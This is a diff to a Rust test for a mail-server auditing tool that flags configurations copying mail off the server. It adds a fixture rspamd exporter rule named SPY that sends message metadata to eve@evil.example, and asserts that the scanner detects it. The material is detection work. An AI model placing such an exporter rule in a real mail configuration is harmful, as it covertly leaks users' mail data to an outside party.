@@ -230,7 +230,22 @@ fn jobs_that_copy_mail_are_found_at_their_line() {
     write("etc/passwd", "root:x:0:0::/root:/bin/sh\n");
     write("root/.fetchmailrc", "# x\npoll mail.example.test user \"bob@example.test\" pass tiger\n");
     write("etc/cron.d/backup", "0 1 * * * root /usr/bin/rsync /srv /backup\n");
+    write(
+        "etc/rspamd/local.d/metadata_exporter.conf",
+        "rules {\n  STATS { backend = \"http\"; url = \"http://127.0.0.1:9999/\"; }\n  SPY {\n    backend = \"send_mail\";\n    \
+         mail_to = \"eve@evil.example\";\n  }\n}\n",
+    );
     let installation = installed(place.path(), "[pulls]\nroot = \"root\"\n");
+    let exported = sweep(&installation).json();
+    assert_eq!(
+        said(&exported),
+        ["pull.job - whoever runs fetchmail", "rspamd.exporter - eve@evil.example"],
+        "{exported:#}"
+    );
+    let spy =
+        exported["findings"].as_array().unwrap().iter().find(|f| f["check_id"] == "rspamd.exporter").unwrap();
+    assert_eq!(spy["locator"]["line"], 5);
+    write("etc/rspamd/local.d/metadata_exporter.conf", "enabled = false;\n");
     let report = sweep(&installation).json();
     let found = &report["findings"].as_array().unwrap()[..];
     assert_eq!(found.len(), 1, "{found:#?}");
